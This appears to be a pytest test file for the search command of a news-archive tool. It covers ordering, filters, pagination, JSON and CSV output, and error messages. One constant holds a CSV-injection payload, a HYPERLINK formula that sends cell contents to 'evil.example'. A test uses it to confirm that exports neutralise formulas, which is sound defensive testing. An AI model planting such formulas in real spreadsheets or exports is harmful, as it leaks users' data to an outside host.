"""`monitor search` on a real archive."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest

from monitor.model import Address, Server
from tests.workbench.newsdesk import Newsdesk

TRAP = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def desk(tmp_path: Path, anywhere: Address) -> Newsdesk:
    return Newsdesk(tmp_path, anywhere if isinstance(anywhere, Server) else None)


def put_into_index(desk: Newsdesk) -> None:
    with desk.archive() as archive:
        while archive.fill_search():
            pass


@pytest.mark.parametrize("is_in_index", [True, False])
def test_the_newest_come_first_with_the_words_marked(desk: Newsdesk, is_in_index: bool) -> None:
    desk.fill(50)
    if is_in_index:
        put_into_index(desk)

    done = desk.run("search", "Fähre AND Warlingen", "--limit", "2")

    lines = done.out.splitlines()
    assert done.code == 0
    assert [line.split("  ")[1] for line in lines[::3][:2]] == ["Meldung 10", "Meldung 20"]
    assert lines[1] == "    bote  https://www.bote.example/10"
    assert lines[2] == "    > Die *Fähre* nach *Warlingen* fährt. Sie ist pünktlich."
    about = " of about 5" if is_in_index else ""
    assert lines[6].startswith(f"(2{about} shown, found among what was seen since ")
    assert len(lines) == 7


def test_what_is_left_is_found_from_where_it_stopped(desk: Newsdesk) -> None:
    desk.fill(50)
    put_into_index(desk)
    first = desk.run("search", "Fähre", "--limit", "2").out
    back = first.rsplit("--until '", 1)[1].split("'")[0]

    rest = desk.run("search", "Fähre", "--until", back).out

    assert rest.count("Meldung") == 3
    assert "Meldung 30" in rest
    assert "shown" not in rest


def test_times_and_sources_are_kept_to(desk: Newsdesk) -> None:
    desk.fill(120)
    desk.store(desk.article(200, "Die Fähre.", source="alt", seen=desk.now - timedelta(hours=3)))

    def found(*arguments: str) -> int:
        return desk.run("search", "Fähre", *arguments).out.count("Meldung")

    assert found("--since", "2d") == 5
    assert found("--until", "2d") == 8
    assert found("--since", "4d", "--until", "3d") == 2
    assert found("--source", "bote") == 12
    assert found("--source", "alt") == 1
    assert found("--since", "2020-01-01", "--until", "2020-12-31") == 0


def test_people_of_the_catalog_are_found(desk: Newsdesk) -> None:
    desk.store(
        desk.article(1, "Bürgermeisterin Ida Brams kam."),
        desk.article(2, "Der Landrat kam."),
    )

    done = desk.run("search", "@brams")

    assert done.out.count("Meldung") == 1


def test_json_has_what_shows_it(desk: Newsdesk) -> None:
    desk.fill(20)

    done = desk.run("search", "Fähre", "--json")

    answers = list(map(json.loads, done.out.splitlines()))
    assert [each["title"] for each in answers] == ["Meldung 10", "Meldung 20"]
    assert answers[0]["evidence"] == [{"field": "text", "start": 4, "end": 9, "text": "Fähre"}]
    assert answers[0]["snippet"].startswith("Die Fähre nach Warlingen")
    assert done.err == ""


def test_a_table_has_no_formulas(desk: Newsdesk) -> None:
    desk.store(desk.article(1, 'Die Fähre "Ida";\nsie fährt, täglich.', title=TRAP))

    done = desk.run("search", "Fähre", "--csv")

    rows = list(csv.DictReader(io.StringIO(done.out, newline="")))
    assert [row["title"] for row in rows] == ["'" + TRAP]
    assert rows[0]["found"] == "Fähre"
    assert rows[0]["snippet"].startswith('Die Fähre "Ida";\nsie fährt')


def test_in_a_table_what_is_not_shown_is_told_beside_it(desk: Newsdesk) -> None:
    desk.fill(50)

    done = desk.run("search", "Fähre", "--csv", "--limit", "1")

    assert len(list(csv.reader(io.StringIO(done.out, newline="")))) == 2
    assert "go on with --until" in done.err


def test_nothing_found_is_said(desk: Newsdesk) -> None:
    desk.fill(5)

    done = desk.run("search", "Zeppelin")

    assert (done.code, done.out) == (0, "nothing found\n")


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("Fähre AND (Bus",), "^"),
        (("",), "the query is empty"),
        (("Fähre " * 17_000,), "at most 20000 are allowed"),
        (("@niemand",), "niemand"),
        (("Fähre", "--json", "--csv"), "either --json or --csv"),
        (("Fähre", "--since", "gestern"), "--since 'gestern': expected a time ago"),
        (("Fähre", "--until", "99999999999d"), "--until '99999999999d'"),
        (("Fähre", "--since", "1d", "--until", "2d"), "--until '2d' is before --since '1d'"),
        (("Fähre", "--source", "bodte"), "did you mean 'bote'?"),
        (("Fähre", "--limit", "-1"), ""),
    ],
)
def test_what_cannot_be_meant_is_refused(
    desk: Newsdesk, arguments: tuple[str, ...], said: str
) -> None:
    desk.fill(5)

    done = desk.run("search", *arguments)

    assert done.code == 2
    assert said in done.err
    assert done.out == ""
    assert len(done.err) < 5_000


def test_without_a_database_it_says_so(tmp_path: Path) -> None:
    done = Newsdesk(tmp_path).run("search", "Fähre")

    assert done.code == 3
    assert "there is no database yet" in done.err
